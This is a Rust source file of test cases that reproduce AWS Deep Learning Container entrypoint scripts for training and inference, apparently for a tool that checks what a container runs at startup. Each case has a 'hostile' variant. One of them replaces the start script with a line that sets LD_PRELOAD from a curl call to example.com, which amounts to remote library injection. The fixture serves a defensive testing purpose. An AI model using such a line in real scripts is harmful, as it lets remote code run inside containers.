//! AWS Deep Learning Containers.

use serde_json::json;

use super::{Case, PYTHON};

/// AWS Deep Learning Containers for training: `bash -m start_with_right_hostname.sh`.
pub fn aws_training() -> Case {
    let start = r#"#!/usr/bin/env bash
bash /usr/local/bin/compat.sh
if [[ "$1" = "train" ]]; then
     CURRENT_HOST=$(jq .current_host  /opt/ml/input/config/resourceconfig.json)
     sed -ie "s/PLACEHOLDER_HOSTNAME/$CURRENT_HOST/g" changehostname.c
     gcc -o changehostname.o -c -fPIC -Wall changehostname.c
     gcc -o libchangehostname.so -shared -export-dynamic changehostname.o -ldl
     LD_PRELOAD=/libchangehostname.so train
else
     eval "$@"
fi
"#;
    Case {
        name: "AWS training",
        config: json!({"Entrypoint": ["bash", "-m", "start_with_right_hostname.sh"], "Cmd": PYTHON}),
        files: vec![
            ("usr/local/bin/start_with_right_hostname.sh", start),
            ("usr/local/bin/compat.sh", COMPAT),
        ],
        programs: vec![],
        starts: PYTHON.to_vec(),
        environment: vec![],
        hostile: (
            "usr/local/bin/start_with_right_hostname.sh",
            "#!/usr/bin/env bash\nLD_PRELOAD=$(curl https://example.com/x) eval \"$@\"\n",
            "LD_PRELOAD",
        ),
    }
}

/// What AWS documents for images with compatibility packages.
const COMPAT: &str = r#"#!/bin/bash
older() {
    [ "$1" = "$2" ] && return 1 || [ "$1" = "$(echo -e "$1\n$2" | sort -V | head -n1)" ]
}
if [ -f /usr/local/cuda/compat/libcuda.so.1 ]; then
    LAST=$(readlink /usr/local/cuda/compat/libcuda.so.1 | cut -d'.' -f 3-)
    echo "for drivers before ${LAST}"
    HAS=$(sed -n 's/^NVRM.*Kernel Module *\([0-9.]*\).*$/\1/p' /proc/driver/nvidia/version 2>/dev/null || true)
    if older $HAS $LAST; then
        export LD_LIBRARY_PATH=/usr/local/cuda/compat:$LD_LIBRARY_PATH
        echo $LD_LIBRARY_PATH
    else
        echo "not needed"
    fi
else
    echo "no package"
fi
"#;

/// AWS Deep Learning Containers for inference: `dockerd_entrypoint.sh`, which sources what chooses the compatibility libraries.
pub fn aws_inference() -> Case {
    let start = r#"#!/usr/bin/env bash
bash /usr/local/bin/bash_telemetry.sh >/dev/null 2>&1 || true
if command -v nvidia-smi >/dev/null 2>&1; then
    source /usr/local/bin/start_cuda_compat.sh
fi
python3 -m vllm.entrypoints.openai.api_server "$@"
"#;
    Case {
        name: "AWS inference",
        config: json!({"Entrypoint": ["/usr/local/bin/dockerd_entrypoint.sh"]}),
        files: vec![
            ("usr/local/bin/dockerd_entrypoint.sh", start),
            (
                "usr/local/bin/bash_telemetry.sh",
                "#!/bin/bash\nif [ -f /usr/local/bin/telemetry.py ] && [[ -z \"${OPT_OUT}\" || \"${OPT_OUT,,}\" != \"true\" ]]; then\n  (\n    python3 /usr/local/bin/telemetry.py --framework vllm &>/dev/null &\n  )\nfi\n",
            ),
            ("usr/local/bin/start_cuda_compat.sh", COMPAT),
        ],
        programs: vec!["usr/local/cuda/compat/libcuda.so.1"],
        starts: vec!["python3", "-m", "vllm.entrypoints.openai.api_server"],
        environment: vec![],
        hostile: (
            "usr/local/bin/telemetry.py",
            "import torch\n",
            "telemetry.py",
        ),
    }
}
